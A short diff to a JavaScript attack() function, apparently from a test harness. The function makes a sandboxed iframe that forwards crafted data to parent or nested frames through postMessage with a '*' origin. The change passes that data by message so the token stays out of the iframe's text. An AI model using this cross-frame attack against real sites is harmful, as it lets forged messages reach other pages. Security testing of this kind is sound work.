@@ -69,8 +69,10 @@ function attack(known) {
   const nobody = document.createElement('iframe');
   nobody.sandbox.add('allow-scripts');
   const where = query.has('inner') ? 'parent.frames[0].frames[0]' : 'parent.frames[0]';
-  const script = `for (const data of ${JSON.stringify(contract(known))}) ${where}.postMessage(data, '*');`;
+  const script = `onmessage = ({ data }) => { for (const one of data) ${where}.postMessage(one, '*'); };`;
   nobody.srcdoc = `<script>${script}<${'/'}script>`;
+  // By a message, so that what was given to it stands in no text: there a token like the board's would be taken for a leak.
+  nobody.onload = () => nobody.contentWindow?.postMessage(contract(known), '*');
   document.body.append(nobody);
   return all.length;
 }
